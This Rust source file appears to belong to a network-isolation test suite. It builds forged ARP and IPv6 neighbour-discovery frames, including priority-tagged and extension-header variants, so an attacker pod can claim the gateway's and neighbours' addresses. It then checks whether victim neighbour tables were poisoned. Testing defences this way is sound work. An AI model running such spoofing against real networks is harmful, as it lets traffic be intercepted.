//! A pod claims the addresses of others, by ARP and by neighbour discovery.

use std::collections::BTreeSet;
use std::net::{IpAddr, Ipv6Addr};

use anyhow::Result;
use weir_tests::lab::{Observe, Stack, ping};

use crate::attack::Attack;
use crate::frame::{
    ALL_NODES, BROADCAST, Mac, Macs, Message, arp, behind_options, icmp, link_local,
    priority_tagged,
};
use crate::gain::Gain;
use crate::launch::launch;
use crate::scene::{Scene, mac_of};

pub(super) const ATTACK: Attack = Attack {
    name: "addresses of neighbours",
    idea: "A pod says by ARP, or by IPv6 neighbour discovery, that the addresses of a neighbour and of the \
           gateway are at its own MAC address; also in frames with a priority tag, and behind IPv6 options. \
           It would get their packets: somebody has such an entry.",
    needs_check: true,
    run,
};

fn run(scene: &Scene) -> Result<Gain> {
    let (gateway, _) = scene.gateway()?;
    // They know each other, so that there are entries to be changed.
    for pod in [&scene.victim, &scene.near_backend] {
        ping(pod, gateway)?;
        ping(scene.near()?, pod.address()?)?;
    }
    ping(&scene.victim, scene.near_backend.address()?)?;
    let own = mac_of(&scene.attacker, "eth0")?;
    let claimed = [gateway, scene.victim.address()?, scene.near_backend.address()?];
    let told = [
        (scene.victim.address()?, mac_of(&scene.victim, "eth0")?),
        (scene.near_backend.address()?, mac_of(&scene.near_backend, "eth0")?),
        scene.gateway()?,
    ];
    let mut frames = Vec::new();
    for address in claimed {
        for target in told.into_iter().filter(|(told, _)| *told != address) {
            frames.extend(match address {
                IpAddr::V4(_) => by_arp(own, address, target)?,
                IpAddr::V6(address) => by_discovery(own, address, target)?,
            });
        }
    }
    for at in 0..frames.len() {
        if let Some(frame) = frames.get(at) {
            frames.push(priority_tagged(frame)?);
        }
    }
    // When it succeeds, packets are lost.
    let settled = launch(scene, &scene.attacker, "eth0", &frames);
    let mut taken = BTreeSet::new();
    look(&scene.victim, "eth0", own, &claimed, &mut taken)?;
    look(&scene.near_backend, "eth0", own, &claimed, &mut taken)?;
    look(scene.near()?, "weir0", own, &claimed, &mut taken)?;
    if taken.is_empty() {
        return settled.map(|()| Gain::Nothing);
    }
    let taken: Vec<_> = taken.into_iter().collect();
    Ok(Gain::Something(format!("the packets to {}", taken.join(", "))))
}

/// Adds the claimed addresses that are taken for the attacker's.
fn look(
    stack: &impl Stack,
    link: &str,
    attacker: Mac,
    claimed: &[IpAddr],
    taken: &mut BTreeSet<String>,
) -> Result<()> {
    for neighbour in stack.neighbours(link)? {
        let is_attacker =
            neighbour.mac.is_some_and(|mac| crate::frame::mac(&mac).ok() == Some(attacker));
        if is_attacker && claimed.contains(&neighbour.dst) {
            taken.insert(neighbour.dst.to_string());
        }
    }
    Ok(())
}

fn by_arp(own: Mac, claimed: IpAddr, (told, mac): (IpAddr, Mac)) -> Result<Vec<Vec<u8>>> {
    let (IpAddr::V4(claimed), IpAddr::V4(told)) = (claimed, told) else { return Ok(Vec::new()) };
    let mut frames = Vec::new();
    for to in [BROADCAST, mac] {
        for is_reply in [true, false] {
            let macs = Macs { from: own, to };
            // To itself ("gratuitous"), which is believed at once, and to the other one.
            frames.push(arp(macs, is_reply, (own, claimed), (own, claimed)));
            frames.push(arp(macs, is_reply, (own, claimed), (mac, told)));
        }
    }
    Ok(frames)
}

fn by_discovery(own: Mac, claimed: Ipv6Addr, (told, mac): (IpAddr, Mac)) -> Result<Vec<Vec<u8>>> {
    // Solicited, and to override what is known; then the option with the MAC address.
    let advertisement = [&claimed.octets()[..], &[2, 1], &own].concat();
    let solicitation = |told: Ipv6Addr| [&told.octets()[..], &[1, 1], &own].concat();
    let IpAddr::V6(told) = told else { return Ok(Vec::new()) };
    let mut frames = Vec::new();
    let all = Macs { from: own, to: ALL_NODES.0 };
    let one = Macs { from: own, to: mac };
    for source in [claimed, link_local(own)] {
        for (macs, to, flags) in [(all, ALL_NODES.1, 0x20), (one, told, 0x60)] {
            let message =
                Message { kind: 136, code: 0, rest: [flags, 0, 0, 0], body: &advertisement };
            frames.push(icmp(macs, source.into(), to.into(), message)?);
        }
    }
    let message = Message { kind: 135, code: 0, rest: [0; 4], body: &solicitation(told) };
    frames.push(icmp(one, claimed.into(), told.into(), message)?);
    for at in 0..frames.len() {
        if let Some(frame) = frames.get(at) {
            frames.extend([behind_options(frame, 1)?, behind_options(frame, 4)?]);
        }
    }
    Ok(frames)
}
